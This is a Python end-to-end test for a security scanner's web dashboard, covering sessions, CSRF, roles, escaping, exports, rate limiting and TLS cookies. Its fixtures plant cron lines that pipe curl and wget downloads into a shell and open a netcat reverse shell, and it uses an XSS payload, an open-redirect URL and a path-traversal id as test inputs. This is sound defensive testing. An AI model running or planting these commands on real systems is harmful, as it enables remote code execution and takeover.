"""End-to-end test of the dashboard: a `rasoat server` on 127.0.0.1 with a
temporary database, three agents (own state directories) that scan fixture
roots and upload, plus signed history batches (older scans for the trends;
vulnerability and policy findings for those pages), users of each role made
with `rasoat server user add`. Over plain HTTP (stdlib): pages refuse
requests without a session or CSRF token, a viewer cannot change anything
(403), cookies are HttpOnly and SameSite=Strict, values are escaped, the
operator API enforces the key's role, a queued "scan now" reaches its host,
exports work, and logins are rate-limited; each page's rows, filters,
order and actions are read from the backend under test. Then, on SQLite,
Debian's chromium driven by playwright-core (tests/e2e/dashboard_browser.js)
renders every page (the PostgreSQL twin leaves the browser out: the pages
are the same code, and their data is checked above)."""
import csv
import io
import json
import os
import re
import secrets
import shutil
import subprocess
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.dirname(__file__))
from rasoat_e2e import RASOAT, Tree, check, done, run  # noqa: E402
from fleet_e2e import Agent, BACKEND, Server, make_root, require_backend  # noqa: E402

PASSED = 0
PASSWORDS = {"alice": "admin-pass-1", "ann": "analyst-pass-1", "vic": "viewer-pass-1"}
XSS = "<img src=x onerror=alert(1)>"


def ok(cond, message):
    global PASSED
    check(cond, message)
    PASSED += 1


def iso(t):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))


class Browser:
    """A cookie jar over Server.request (stdlib only)."""

    def __init__(self, srv):
        self.srv = srv
        self.cookies = {}
        self.set_cookie_lines = []

    def raw(self, method, path, form=None, headers=None):
        import http.client
        conn = http.client.HTTPConnection("127.0.0.1", self.srv.port, timeout=30)
        h = dict(headers or {})
        if self.cookies:
            h["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
        body = None
        if form is not None:
            body = urllib.parse.urlencode(form)
            h["Content-Type"] = "application/x-www-form-urlencoded"
        try:
            conn.request(method, path, body=body, headers=h)
            resp = conn.getresponse()
            data = resp.read().decode("utf-8", "replace")
            for k, v in resp.getheaders():
                if k.lower() == "set-cookie":
                    self.set_cookie_lines.append(v)
                    name, _, rest = v.partition("=")
                    value = rest.split(";", 1)[0]
                    if "Max-Age=0" in v or not value:
                        self.cookies.pop(name, None)
                    else:
                        self.cookies[name] = value
            return resp.status, data, {k.lower(): v for k, v in resp.getheaders()}
        finally:
            conn.close()

    def get(self, path):
        return self.raw("GET", path)

    def csrf(self, html):
        m = re.search(r'name="csrf" value="([0-9a-f]{64})"', html)
        check(m is not None, "a form with a CSRF token")
        return m.group(1)

    def login(self, user, password=None, expect=303):
        status, html, _ = self.get("/login")
        check(status == 200, f"GET /login: {status}")
        status, body, h = self.raw("POST", "/login", {"csrf": self.csrf(html), "user": user,
                                                      "password": password or PASSWORDS[user]})
        check(status == expect, f"login {user}: {status}, wanted {expect}: {body[:300]}")
        return status, h


def table(html, table_id):
    """The body of the table TABLE_ID of a page, as a browser finds it by its id."""
    m = re.search(r'<table[^>]*\bid="%s"[^>]*>.*?<tbody>(.*?)</tbody>' % re.escape(table_id), html, re.S)
    check(m is not None, f"a table #{table_id} in the page: {html[-1500:]}")
    return m.group(1)


def rows(html, table_id):
    """How many rows the table TABLE_ID's body has."""
    return table(html, table_id).count("<tr")


def first_cells(html, table_id):
    """The text of the first cell of each row of table TABLE_ID."""
    cells = re.findall(r"<tr[^>]*>\s*<td[^>]*>(.*?)</td>", table(html, table_id), re.S)
    return [re.sub(r"<[^>]+>", "", c).strip() for c in cells]


def add_users(srv):
    for name, role in (("alice", "admin"), ("ann", "analyst"), ("vic", "viewer")):
        p = subprocess.run([RASOAT, "server", "--db", srv.db_url, "user", "add", name, "--role", role],
                           input=PASSWORDS[name] + "\n", capture_output=True, text=True, timeout=60)
        ok(p.returncode == 0, f"user add {name}: {p.returncode} {p.stderr}")
    code, out, _ = run("server", "--db", srv.db_url, "user", "list")
    users = [json.loads(l) for l in out.splitlines()]
    ok(sorted((u["name"], u["role"]) for u in users) ==
       [("alice", "admin"), ("ann", "analyst"), ("vic", "viewer")], f"user list: {out}")
    ok(all("hash" not in u for u in users), "user list shows no hash")
    p = subprocess.run([RASOAT, "server", "--db", srv.db_url, "user", "add", "bad", "--role", "viewer"],
                       input="short\n", capture_output=True, text=True, timeout=60)
    ok(p.returncode == 2, "a password under 8 characters is refused")


def history_batch(agent, hostname, root, now, newest_findings):
    """Older scans (trend) and a newest scan with vulnerability and policy
    findings, as the agent would upload them."""
    scans = []
    for days, score in ((60, 55), (30, 62), (7, 71)):
        sid = secrets.token_hex(16)
        scans.append({"summary": {"type": "summary", "scan": sid, "host": hostname, "root": root,
                                  "started": iso(now - days * 86400), "duration_ms": 900, "score": score,
                                  "exit": 1, "counts": {"high": 2, "medium": 1}, "modules": {}},
                      "findings": []})
    sid = secrets.token_hex(16)
    findings = [dict(f, scan=sid) for f in newest_findings]
    findings += [
        {"type": "finding", "scan": sid, "module": "vuln", "rule": "vuln:CVE-2024-6387", "severity": "critical",
         "score": 95, "title": "openssh-server 1:9.2p1-2 is affected by CVE-2024-6387 (fixed in 1:9.2p1-2+deb12u3)",
         "evidence": {"package": "openssh-server", "installed": "1:9.2p1-2", "fixed": "1:9.2p1-2+deb12u3",
                      "cve": "CVE-2024-6387", "status": "affected"}},
        {"type": "finding", "scan": sid, "module": "audit", "rule": "sca:cis_debian12:5.2.7", "severity": "medium",
         "score": 50, "title": "Ensure SSH root login is disabled " + XSS,
         "evidence": {"policy": "cis_debian12.yml", "check": "5.2.7", "reason": "PermitRootLogin yes"}},
    ]
    counts = {}
    for f in findings:
        counts[f["severity"]] = counts.get(f["severity"], 0) + 1
    scans.append({"summary": {"type": "summary", "scan": sid, "host": hostname, "root": root,
                              "started": iso(now + 2), "duration_ms": 1200, "score": 48, "exit": 1,
                              "counts": counts,
                              "modules": {"audit": {"results": {"passed": 40, "failed": 1,
                                                                "not_applicable": 3, "waived": 0}}}},
                  "findings": findings})
    return json.dumps({"batch_id": secrets.token_hex(16), "scans": scans}).encode()


def local_findings(root):
    code, out, err = run("scan", "--root", root, "--only", "persist", "--format", "jsonl", "--no-db")
    check(code in (0, 1), f"local scan exited {code}: {err}")
    lines = [json.loads(l) for l in out.splitlines() if l.strip()]
    return [{k: v for k, v in l.items() if k != "scan"} for l in lines if l["type"] == "finding"]


def build_fleet(t, srv):
    roots = {
        "web-1": make_root(t, "web-1", ["* * * * * root curl http://a.example/x.sh | sh"]),
        "web-2": make_root(t, "web-2", ["*/5 * * * * root wget -qO- http://b.example/y | bash"]),
        "db-1": make_root(t, "db-1", ["0 * * * * root nc -e /bin/sh 203.0.113.9 4444"]),
    }
    web = srv.token("--uses", "5", "--ttl", "1h", "--group", "web")
    db = srv.token("--uses", "1", "--ttl", "1h", "--group", "db")
    agents = {}
    for name, root in roots.items():
        a = Agent(t.p("agent-" + name))
        a.enrol(srv.url, db if name == "db-1" else web)
        code, out, err = a.run_once(root)
        ok(code == 0 and not a.spool(), f"agent {name} scanned and uploaded: {code} {err[-500:]}")
        # the facts as this host reports them (the agent ran on this machine,
        # so it reported this machine's name)
        facts = {"hostname": name, "os": "debian" if name != "db-1" else "ubuntu",
                 "os_version": "12" if name != "db-1" else "22.04", "kernel": "6.1.0-test", "arch": "x86_64"}
        status, body, _ = a.post(srv, "/api/v1/checkin", json.dumps({"host": facts}).encode())
        ok(status == 200, f"check-in with facts: {status} {body}")
        # newer than the agent's own scan: this one is the host's newest
        now = int(time.time())
        status, body, _ = a.post(srv, "/api/v1/results", history_batch(a, name, root, now, local_findings(root)))
        ok(status == 200, f"history batch of {name}: {status} {body}")
        agents[name] = a
    return agents


def add_incident(t, srv):
    """An incident detected 10 days ago and never notified: overdue.
    Incident records live in the fleet's own database (rasoat incident
    --db), SQLite or PostgreSQL."""
    env = dict(os.environ, RASOAT_INCIDENT_CONF=t.p("incident.conf"))
    open(t.p("incident.conf"), "w").close()
    code, out, err = run("incident", "new", "--db", srv.incidents, "--title", "Reverse shell on db-1 " + XSS,
                         "--category", "malware", "--severity", "high", "--detected", iso(time.time() - 10 * 86400),
                         env=env)
    ok(code == 0, f"incident new: {code} {err}")
    inc = out.strip()
    code, shown, err = run("incident", "show", inc, "--db", srv.incidents, "--format", "json", env=env)
    ok(code == 0 and json.loads(shown)["title"].startswith("Reverse shell on db-1"),
       f"incident show on {BACKEND}: {code} {err} {shown[:300]}")
    return inc


def check_refusals(srv, agents):
    anon = Browser(srv)
    status, _, h = anon.get("/overview")
    ok(status == 303 and h.get("location") == "/login", f"no session: GET /overview → login ({status})")
    for path in ("/hosts", "/findings?format=csv", "/users", "/audit"):
        status, body, h = anon.get(path)
        ok(status == 303 and "web-1" not in body, f"no session: {path} refused ({status})")
    host = agents["web-1"].id
    status, _, _ = anon.raw("POST", "/host/scan", {"id": host})
    ok(status == 401, f"no session: POST /host/scan refused ({status})")
    status, _, _ = anon.raw("POST", "/login", {"user": "alice", "password": PASSWORDS["alice"]})
    ok(status == 403, f"login without its CSRF value refused ({status})")
    ok(anon.get("/static/style.css")[0] == 200, "the style sheet is served")
    ok(anon.get("/static/nope.css")[0] == 404, "an unknown asset is 404")

    bad = Browser(srv)
    bad.login("alice", "wrong-password", expect=401)
    ok("rs_session" not in bad.cookies, "a wrong password gives no session")

    vic = Browser(srv)
    _, h = vic.login("vic")
    line = next(c for c in vic.set_cookie_lines if c.startswith("rs_session="))
    ok("HttpOnly" in line and "SameSite=Strict" in line and "Path=/" in line, f"session cookie flags: {line}")
    ok("Secure" not in line, "no Secure flag over plain HTTP (it is set under TLS)")
    status, html, h = vic.get(f"/host?id={host}")
    ok(status == 200 and 'id="scan-now"' not in html, "a viewer sees no scan-now button")
    nav = re.search(r"<nav>(.*?)</nav>", html, re.S)
    ok(nav is not None and 'href="/hosts"' in nav.group(1) and 'href="/users"' not in nav.group(1),
       "a viewer's navigation has no users link")
    ok("content-security-policy" in h and "frame-ancestors 'none'" in h["content-security-policy"], "CSP header")
    token = vic.csrf(html)
    for path, form in (("/host/scan", {"id": host}), ("/tokens/create", {"ttl_hours": "1", "uses": "1"}),
                       ("/users/create", {"name": "eve", "role": "admin", "password": "eve-password"}),
                       ("/users/remove", {"name": "alice"}), ("/tokens/revoke", {"id": "0" * 16})):
        status, _, _ = vic.raw("POST", path, dict(form, csrf=token))
        ok(status == 403, f"viewer POST {path} with a valid CSRF token: {status}, wanted 403")
    for path in ("/users", "/tokens", "/audit"):
        ok(vic.get(path)[0] == 403, f"viewer GET {path} is 403")

    ann = Browser(srv)
    ann.login("ann")
    status, html, _ = ann.get(f"/host?id={host}")
    ok('id="scan-now"' in html, "an analyst sees scan now")
    status, _, _ = ann.raw("POST", "/host/scan", {"id": host})
    ok(status == 403, f"POST without a CSRF token refused ({status})")
    status, _, _ = ann.raw("POST", "/host/scan", {"id": host, "csrf": "0" * 64})
    ok(status == 403, f"POST with a wrong CSRF token refused ({status})")
    status, _, _ = ann.raw("POST", "/host/scan", {"id": host, "csrf": vic.csrf(vic.get("/overview")[1])})
    ok(status == 403, f"another session's CSRF token refused ({status})")
    status, _, h = ann.raw("POST", "/host/scan", {"id": host, "csrf": ann.csrf(html)})
    ok(status == 303 and "queued=1" in h.get("location", ""), f"analyst scan now: {status} {h.get('location')}")
    ok(ann.get("/users")[0] == 403, "an analyst cannot see users")
    status, html, _ = ann.get("/tasks")
    ok("web-1" in html and "state-queued\">queued<" in html, f"the task is listed: {html[-1500:]}")
    # the host gets it at its next check-in
    status, body, _ = agents["web-1"].post(srv, "/api/v1/checkin", b"{}")
    tasks = body.get("tasks", []) if body else []
    ok(status == 200 and [t.get("type") for t in tasks] == ["scan"], f"check-in delivers the task: {body}")
    status, body, _ = agents["web-1"].post(srv, "/api/v1/checkin", b"{}")
    ok(body.get("tasks") == [], "delivered once")
    ok("state-sent\">sent<" in ann.get("/tasks")[1], "the task shows sent (handed out at the check-in)")

    # logout ends the session server-side: the old cookie no longer works
    sid = vic.cookies["rs_session"]
    status, _, _ = vic.raw("POST", "/logout", {"csrf": vic.csrf(vic.get("/overview")[1])})
    ok(status == 303, "logout")
    stale = Browser(srv)
    stale.cookies["rs_session"] = sid
    ok(stale.get("/overview")[0] == 303, "a logged-out session id is refused")
    return ann


def check_admin_and_pages(srv, agents):
    alice = Browser(srv)
    alice.login("alice")
    status, html, _ = alice.get("/overview")
    ok(status == 200 and 'id="hosts-total"><span class="n">3<' in html, "overview counts 3 hosts")
    ok("<svg class=\"trend\"" in html and "<polyline" in html, "the fleet trend is drawn")
    ok("CVE-2024-6387" in html, "newest critical finding on the overview")
    ok('id="overdue"' in html and "Reverse shell on db-1 &lt;img" in html, "an overdue incident on the overview")
    status, html, _ = alice.get("/incidents")
    ok(status == 200 and "malware" in html and "Overdue" in html, "the incidents page lists it")
    status, html, _ = alice.get("/findings")
    ok(XSS not in html and "&lt;img src=x onerror=alert(1)&gt;" in html, "finding titles are escaped")
    status, html, _ = alice.get("/hosts?group=web")
    ok(html.count('<a href="/host?id=') == 2, "hosts filtered by group")
    status, html, _ = alice.get("/hosts?having=CVE-2024-6387&sort=score&dir=desc")
    ok(html.count('<a href="/host?id=') == 3, f"hosts having a CVE: {html[-2500:]}")
    status, html, _ = alice.get("/hosts?having=no-such-rule")
    ok(html.count('<a href="/host?id=') == 0, "hosts having an unknown rule: none")
    status, body, h = alice.get("/findings?format=csv&severity=critical")
    rows = list(csv.reader(io.StringIO(body)))
    ok(status == 200 and h["content-type"].startswith("text/csv") and rows[0][0] == "rule",
       f"CSV export: {status} {body[:200]}")
    ok(len(rows) == 4 and all(r[0] == "vuln:CVE-2024-6387" for r in rows[1:]), f"CSV has 3 critical rows: {rows}")
    status, body, h = alice.get("/findings?format=json")
    groups = json.loads(body)["groups"]
    cve = [g for g in groups if g["rule"] == "vuln:CVE-2024-6387"]
    ok(len(cve) == 1 and len(cve[0]["hosts"]) == 3, "JSON export groups the CVE with its 3 hosts")
    status, html, _ = alice.get("/vulns")
    ok("CVE-2024-6387" in html and "1:9.2p1-2+deb12u3" in html, "vulnerabilities by CVE with the fixed version")
    status, html, _ = alice.get("/compliance")
    ok("97%" in html and "sca:cis_debian12:5.2.7" in html, "compliance pass rates")
    check_pages_data(alice, agents)
    ok(alice.get("/findings?severity=bogus")[0] == 400, "a bad filter is 400")
    ok(alice.get("/host?id=../../etc/passwd")[0] == 400, "a bad host id is 400")

    # admin creates a token and a user from the dashboard; both audited
    status, html, _ = alice.get("/tokens")
    status, html, _ = alice.raw("POST", "/tokens/create", {"csrf": alice.csrf(html), "ttl_hours": "2",
                                                           "uses": "3", "group": "lab"})
    m = re.search(r'id="new-token">(rst1\.[0-9a-f.]+)<', html)
    ok(status == 200 and m, "a token is created and shown once")
    status, html, _ = alice.get("/users")
    status, _, _ = alice.raw("POST", "/users/create", {"csrf": alice.csrf(html), "name": "olga",
                                                       "role": "viewer", "password": "olga-password"})
    ok(status == 303, f"admin creates a user ({status})")
    status, html, _ = alice.raw("POST", "/users/remove", {"csrf": alice.csrf(html), "name": "alice"})
    ok(status == 400 and "last admin" in html.lower(), "the last admin cannot be removed")
    status, html, _ = alice.get("/audit")
    for action in ("login", "login_failed", "task_scan", "token_create", "user_create", "refused"):
        ok(f"<td>{action}</td>" in html, f"audit log has {action}")
    ok("<td>127.0.0.1</td>" in html, "audit log has the address")
    status, html, _ = alice.get("/lang?to=vi&back=/hosts")
    ok(status == 303, "language switch")
    status, html, _ = alice.get("/overview")
    ok("Tổng quan" in html and 'lang="vi"' in html, "Vietnamese pages")
    status, _, h = alice.get("/lang?to=en&back=//evil.example/")
    ok(h.get("location") == "/overview", "the language switch does not redirect off the site")


def check_pages_data(alice, agents):
    """What each page shows of the fleet's data, read from the backend under
    test (SQLite or PostgreSQL): the same rows, filters, orders and actions
    the browser part checks (dashboard_browser.js, run once, by the SQLite
    test: the pages are the same code on either backend, so rendering them
    in chromium a second time on PostgreSQL proved nothing more)."""
    status, html, _ = alice.get("/hosts")
    ok(status == 200 and rows(html, "hosts") == 3, "hosts page: 3 rows")
    ok('href="/hosts?sort=hostname&amp;dir=desc" id="sort-hostname"' in html,
       "hosts page: sorted by name, its link turns the order round")
    status, html, _ = alice.get("/hosts?sort=hostname&dir=desc")
    names = first_cells(html, "hosts")
    ok(names == ["web-2", "web-1", "db-1"], f"hosts sorted by name, descending: {names}")
    status, html, _ = alice.get("/hosts?os=ubuntu")
    ok(first_cells(html, "hosts") == ["db-1"], "hosts filtered by OS: 1")
    status, html, _ = alice.get(f"/host?id={agents['web-1'].id}")
    ok(status == 200 and "web-1" in html and "debian" in table(html, "facts"), "host page: its facts")
    ok(rows(html, "scans") >= 5, f"host page: scan history ({rows(html, 'scans')} rows)")
    ok("openssh-server" in table(html, "host-vulns"), "host page: vulnerable packages")
    trend = re.search(r'<svg class="trend".*?</svg>', html, re.S)
    ok(trend is not None and trend.group(0).count("<circle") >= 4, "host page: score trend points")
    status, html, _ = alice.get("/tasks")
    before = rows(html, "tasks")
    status, html, _ = alice.get(f"/host?id={agents['web-1'].id}")
    status, _, h = alice.raw("POST", "/host/scan", {"id": agents["web-1"].id, "csrf": alice.csrf(html)})
    ok(status == 303 and "queued=1" in h.get("location", ""), f"admin scan now: {status}")
    status, html, _ = alice.get("/tasks")
    ok(rows(html, "tasks") == before + 1, f"tasks page: the new task is a row ({before} before)")
    status, html, _ = alice.get("/findings")
    ok(rows(html, "findings") >= 3, "findings page: grouped by rule")
    status, html, _ = alice.get("/findings?severity=critical")
    ok(rows(html, "findings") == 1, "findings page: severity filter")
    status, html, _ = alice.get("/compliance")
    ok(rows(html, "compliance-hosts") == 3, "compliance page: per host")
    status, html, _ = alice.get("/incidents")
    ok(rows(html, "incidents") == 1, "incidents page: the record is a row")
    status, html, _ = alice.get("/users")
    ok(rows(html, "users") >= 3, "users page: listed")
    status, html, _ = alice.get("/tokens")
    forms = re.findall(r'<form method="post" action="/tokens/revoke".*?name="id" value="([^"]+)"', table(html, "tokens"))
    ok(len(forms) >= 1, "tokens page: active tokens have a revoke form")
    status, _, _ = alice.raw("POST", "/tokens/revoke", {"csrf": alice.csrf(html), "id": forms[0]})
    ok(status == 303, f"a token is revoked ({status})")
    status, html, _ = alice.get("/tokens")
    ok(table(html, "tokens").count('action="/tokens/revoke"') == len(forms) - 1, "tokens page: one revoke form fewer")
    status, html, _ = alice.get("/audit")
    ok("<td>token_revoke</td>" in html, "audit log has token_revoke")


def check_api_roles(srv, agents):
    viewer, analyst, admin = srv.apikey("viewer"), srv.apikey("analyst"), srv.apikey("admin")
    body = json.dumps({"host": agents["db-1"].id, "type": "scan"})
    for key, want in ((viewer, 403), (analyst, 201), (admin, 201)):
        status, reply, _ = srv.request("POST", "/api/v1/tasks", body=body,
                                       headers={"Authorization": "Bearer " + key})
        ok(status == want, f"POST /api/v1/tasks: {status}, wanted {want}: {reply}")
    for key, want in ((viewer, 403), (analyst, 403), (admin, 200)):
        status, reply, _ = srv.get("/api/v1/tokens", key)
        ok(status == want, f"GET /api/v1/tokens: {status}, wanted {want}")
    status, reply, _ = srv.get("/api/v1/hosts", viewer)
    ok(status == 200 and len(reply["items"]) == 3, "a viewer key reads hosts")


def browser_test(srv, shots):
    node = shutil.which("node")
    modules = os.path.join(os.path.dirname(os.path.abspath(RASOAT)), "node_modules")
    source = os.environ.get("RS_SOURCE_DIR") or os.path.join(os.path.dirname(__file__), "..", "..")
    if node and shutil.which("npm") and not os.path.isdir(os.path.join(modules, "playwright-core")):
        subprocess.run([os.path.join(source, "scripts", "playwright.sh"), os.path.dirname(modules)],
                       timeout=300, check=False)
    if not node or not os.path.exists("/usr/bin/chromium") or \
            not os.path.isdir(os.path.join(modules, "playwright-core")):
        print("SKIP: browser part: needs node, /usr/bin/chromium (scripts/deps.sh test) and "
              "playwright-core (scripts/playwright.sh build-test)")
        return
    env = dict(os.environ, NODE_PATH=modules, RS_BASE=srv.url, RS_SHOTS=shots,
               RS_USERS=json.dumps(PASSWORDS), RS_BACKEND=BACKEND)
    t0 = time.time()
    p = subprocess.run([node, os.path.join(os.path.dirname(__file__), "dashboard_browser.js")],
                       env=env, capture_output=True, text=True, timeout=180)
    print(p.stdout[-4000:])
    ok(p.returncode == 0, f"browser test failed ({p.returncode}):\n{p.stdout[-3000:]}\n{p.stderr[-3000:]}")
    n = len([l for l in p.stdout.splitlines() if l.startswith("ok ")])
    ok(n >= 20, f"browser checks passed: {n}")
    global PASSED
    PASSED += n
    print(f"browser part: {time.time() - t0:.1f} s")


def check_login_limit(srv):
    b = Browser(srv)
    # The limiter is a bucket of 10 attempts refilled at 0.2 a second. Each
    # failed login costs an Argon2id check (seconds under ASan on a loaded
    # machine), so the bucket refills while the test runs: keep trying until
    # the limit answers, and check that it answered no later than the bucket
    # allows for the time taken.
    codes, retry = [], None
    t0 = time.monotonic()
    for _ in range(40):
        status, html, _ = b.get("/login")
        status, _, h = b.raw("POST", "/login", {"csrf": b.csrf(html), "user": "vic", "password": "nope-nope"})
        codes.append(status)
        if status == 429:
            retry = h.get("retry-after")
            break
    allowed = 10 + int((time.monotonic() - t0) * 0.2) + 1
    ok(429 in codes and codes[0] == 401 and codes.count(401) <= allowed,
       f"logins are rate-limited: {codes} (at most {allowed} refusals before the limit)")
    ok(retry is not None and int(retry) >= 1, f"with Retry-After: {retry}")


def check_tls_cookie(t):
    """Under TLS the session cookie is also Secure."""
    if not shutil.which("openssl"):
        print("SKIP: TLS cookie check: the openssl command is not installed")
        return
    cert, key = t.p("tls/cert.pem"), t.p("tls/key.pem")
    os.makedirs(t.p("tls"))
    p = subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
                        "-nodes", "-keyout", key, "-out", cert, "-days", "2", "-subj", "/CN=127.0.0.1"],
                       capture_output=True, text=True, timeout=60)
    check(p.returncode == 0, f"openssl req: {p.stderr}")
    srv = Server(t.p("tls/fleet.db"), extra=["--tls-cert", cert, "--tls-key", key]).start()
    try:
        pw = "tls-admin-pass"
        r = subprocess.run([RASOAT, "server", "--db", srv.db_url, "user", "add", "tina", "--role", "admin"],
                           input=pw + "\n", capture_output=True, text=True, timeout=60)
        check(r.returncode == 0, f"user add: {r.stderr}")
        import http.client
        import ssl
        ctx = ssl.create_default_context(cafile=cert)
        ctx.check_hostname = False

        def request(method, path, body=None, cookie=""):
            conn = http.client.HTTPSConnection("127.0.0.1", srv.port, timeout=30, context=ctx)
            try:
                h = {"Cookie": cookie} if cookie else {}
                if body:
                    h["Content-Type"] = "application/x-www-form-urlencoded"
                conn.request(method, path, body=body, headers=h)
                resp = conn.getresponse()
                return resp.status, resp.read().decode(), resp.msg.get_all("Set-Cookie") or []
            finally:
                conn.close()
        status, html, cookies = request("GET", "/login")
        pre = re.search(r'name="csrf" value="([0-9a-f]{64})"', html).group(1)
        ok(all("Secure" in c for c in cookies), f"TLS: the login form's cookie is Secure: {cookies}")
        status, _, cookies = request("POST", "/login", urllib.parse.urlencode(
            {"csrf": pre, "user": "tina", "password": pw}), cookie=f"rs_pre={pre}")
        sess = [c for c in cookies if c.startswith("rs_session=")]
        ok(status == 303 and sess and "Secure" in sess[0] and "HttpOnly" in sess[0], f"TLS: session cookie {sess}")
    finally:
        srv.stop()


def main():
    require_backend("test_dashboard")
    print(f"test_dashboard: database backend {BACKEND}")
    with Tree("rasoat-dash-") as t:
        db = t.p("server/fleet.db")
        os.makedirs(os.path.dirname(db))
        # the incident records live in the fleet's own database, SQLite or
        # PostgreSQL (`rasoat incident --db postgresql://…`)
        srv = Server(db).start()
        srv.incidents = srv.db_url if BACKEND == "postgresql" else db
        try:
            add_users(srv)
            agents = build_fleet(t, srv)
            add_incident(t, srv)
            check_refusals(srv, agents)
            check_admin_and_pages(srv, agents)
            check_api_roles(srv, agents)
            # the screenshots are for people (docs/dashboard, docs/FLEET.md):
            # taken when asked for, into RS_DASH_SCREENSHOTS, as
            # test_fleet_pages_browser does (before: into a directory deleted unread)
            shots = os.environ.get("RS_DASH_SCREENSHOTS") or ""
            if shots:
                os.makedirs(shots, exist_ok=True)
            if BACKEND == "sqlite":
                browser_test(srv, shots)
            else:
                print("browser part: run by e2e/test_dashboard (the pages are the same code on either "
                      "backend); each page's data on this backend: check_pages_data")
            check_login_limit(srv)
        finally:
            srv.stop()
        check_tls_cookie(t)
    done("test_dashboard", PASSED)


if __name__ == "__main__":
    main()
